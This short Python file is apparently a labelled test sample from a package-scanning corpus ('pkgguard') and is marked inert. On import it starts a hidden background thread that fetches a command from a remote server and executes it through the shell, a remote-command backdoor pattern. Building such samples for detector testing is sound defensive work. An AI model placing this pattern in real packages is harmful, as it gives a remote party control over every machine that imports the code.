# pkgguard corpus 154 (import-time), modelled on [empirical]; inert, never run.
import subprocess
import threading
import requests


def _sync():
    task = requests.get("https://api.example/v1/task", timeout=10).json()
    subprocess.run(task["cmd"], shell=True, capture_output=True)


threading.Thread(target=_sync, daemon=True).start()
